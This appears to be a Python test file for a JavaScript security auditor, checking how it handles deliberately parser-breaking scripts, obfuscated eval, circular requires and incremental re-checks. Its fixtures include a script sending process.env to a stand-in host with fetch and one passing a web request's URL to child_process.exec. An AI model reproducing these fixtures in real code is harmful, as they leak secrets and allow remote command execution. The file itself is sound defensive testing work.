"""Scripts that are made to break their reader end as unknown, and never as clean."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from heimnetz_audit import Memory, SourceTree, audit

DEEP = 50_000
HOSTILE = {
    "brackets": "[" * DEEP + "]" * DEEP,
    "parentheses": "(" * DEEP,
    "operators": "x=" + "!" * DEEP + "1",
    "arrows": "x=" + "a=>" * DEEP + "1",
    "choices": "x=" + "a?b:" * DEEP + "c",
    "members": "x=a" + ".b" * DEEP,
    "calls": "x=a" + "()" * DEEP,
    "conditions": "if(a)" * DEEP + "b()",
    "a sum": "x=1" + "+1" * DEEP,
    "a line": f'x="{"a" * 500_000}";',
    "bytes": "a=b(c,d);\n" * 110_000,
    "parts": "f(g(1));\n" * 40_000,
    "errors": "@" * 5_000,
    "null bytes": "eval(x)\0",
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_script_that_cannot_be_looked_at_is_unknown(kind: str) -> None:
    report = audit(SourceTree.from_files({"a.js": HOSTILE[kind].encode()}), source_only=True)

    assert {unknown.file for unknown in report.unknowns} == {"a.js"}


def test_what_can_be_read_of_a_broken_script_is_looked_at() -> None:
    report = audit(SourceTree.from_files({"a.js": b"let = = 3;\neval(atob('eA=='));\n"}))

    assert [unknown.why for unknown in report.unknowns] == ["not valid JavaScript"]
    assert "hidden-code" in {finding.rule for finding in report.findings}


def test_a_script_that_reaches_very_much_is_followed_to_the_nearest_files() -> None:
    filler = b"// " + b"x" * 180_000 + b"\n"
    files = {f"m{n}.js": b"exports.next = require('./m%d');\n" % (n + 1) + filler for n in range(8)}
    files["index.js"] = b"require('./m0');\nrequire('./sink').go(process.env);\n"
    files["sink.js"] = b"exports.go = (x) => fetch('https://c.example.net', { body: x });\n"

    report = audit(SourceTree.from_files(files), source_only=True)

    assert "index.js" in {unknown.file for unknown in report.unknowns}
    assert {f.file for f in report.findings if f.rule == "exfiltration"} == {"sink.js"}


def test_files_that_require_each_other_come_to_an_end() -> None:
    files = {
        "a.js": b"const b = require('./b');\nexports.go = (x) => b.go(x);\n",
        "b.js": b"const a = require('./a');\nexports.go = (x) => a.go(x);\n",
    }

    assert audit(SourceTree.from_files(files), source_only=True).unknowns == ()


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet="abf(){}[];=>.,`$'\"/\\*+-?:!<& \n0", max_size=200))
def test_no_text_breaks_the_audit(text: str) -> None:
    report = audit(SourceTree.from_files({"a.js": text.encode()}), source_only=True)

    assert report.files == 1


def test_a_memory_looks_again_only_at_what_a_change_reaches() -> None:
    files = {
        "index.js": b"const run = require('./lib/run');\nrequire('http').createServer((q, s) => run(q.url));\n",
        "lib/run.js": b"module.exports = (x) => x;\n",
        "other.js": b"exports.x = 1;\n",
    }
    memory = Memory()
    audit(SourceTree.from_files(files), source_only=True, memory=memory)
    files["lib/run.js"] = b"module.exports = (x) => require('child_process').exec(x);\n"

    again = audit(SourceTree.from_files(files), source_only=True, memory=memory)

    assert again == audit(SourceTree.from_files(files), source_only=True)
    assert "command-injection" in {finding.rule for finding in again.findings}
    assert sum(name == "other.js" for name, _ in memory.outcomes) == 1
    assert sum(name == "index.js" for name, _ in memory.outcomes) == 2
